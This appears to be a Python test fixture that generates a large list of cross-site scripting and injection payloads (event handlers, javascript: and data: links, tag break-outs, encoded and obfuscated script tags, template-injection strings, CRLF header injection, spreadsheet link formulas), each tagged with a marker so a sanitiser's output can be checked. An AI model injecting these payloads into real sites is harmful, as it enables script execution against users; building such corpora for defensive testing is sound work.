"""What people write who want a page to run something: shapes that are well known, put together by us (T15).

`MARK` is in each of them, so that one can look for what became of it.
"""

from itertools import product

MARK = "xq7"
RUN = f"alert({MARK})"
HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter"),
    *("onbeforeinput", "onscrollend", "onwheel", "oncopy", "onauxclick", "onbegin", "onpageshow", "onsubmit"),
)
BEARERS = (
    "<img src=x {}>",
    "<svg {}>",
    "<body {}>",
    "<details open {}>",
    "<input autofocus {}>",
    "<video src=x {}>",
    "<marquee {}>",
    "<x tabindex=0 {}>",
)
SCHEMES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f" javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A&#x61vascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,PHNjcmlwdD4={MARK}",
    f"vbscript:msgbox({MARK})",
)
LINKS = (
    '<a href="{}">x</a>',
    "<iframe src='{}'></iframe>",
    '<form action="{}"><button>x</button></form>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<base href="{}//">',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<math href="{}">x</math>',
)
WAYS_OUT = (
    '">',
    "'>",
    "`>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "--><",
    "]]>",
    '" ',
    "' ",
    "</option></select>",
)
ENDINGS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"autofocus onfocus={RUN} x=",
    f"<svg/onload={RUN}>",
)
OTHERS = (
    f"<script src=//{MARK}.example></script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0c>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<script>{RUN}",
    f"<style>@import'//{MARK}.example';</style>",
    f"<link rel=stylesheet href=//{MARK}.example>",
    f"<div style=background:url(//{MARK}.example)>",
    f"<div style=width:expression({RUN})>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><use href='data:image/svg+xml,{MARK}'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<plaintext>{MARK}",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml' onload='{RUN}'/>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\u2028<script>{RUN}</script>\u2029",
    f"\u202e<script>{RUN}</script>",
    f"＜script＞{RUN}＜/script＞",
    f"<im\ufeffg src=x onerror={RUN}>",
    f"{{{{ 7|add:7 }}}}{MARK}",
    f"{{% debug %}}{MARK}",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<div hx-get=/desk/ hx-trigger=load>{MARK}</div>",
    f"<div data-hx-on:load='{RUN}'>",
    f"<form id=x><input name=attributes>{MARK}</form>",
    f"<a id=config><a id=config name=url href=//{MARK}.example>",
    f"<portal src=//{MARK}.example>",
    f"[x](javascript:{RUN})",
    f'![x](x"onerror="{RUN})',
    f"**<b>{MARK}</b>**",
    f'https://x.example/"onmouseover="{RUN}',
    f"https://x.example/'><script>{RUN}</script>",
    f'=HYPERLINK("//{MARK}.example")',
    f"\r\nSet-Cookie: {MARK}=1\r\n\r\n<script>{RUN}</script>",
)
VECTORS = list(
    dict.fromkeys(
        [
            *(bearer.format(f"{handler}={RUN}") for bearer, handler in product(BEARERS, HANDLERS)),
            *(link.format(scheme) for link, scheme in product(LINKS, SCHEMES)),
            *(way + ending for way, ending in product(WAYS_OUT, ENDINGS)),
            *OTHERS,
        ]
    )
)
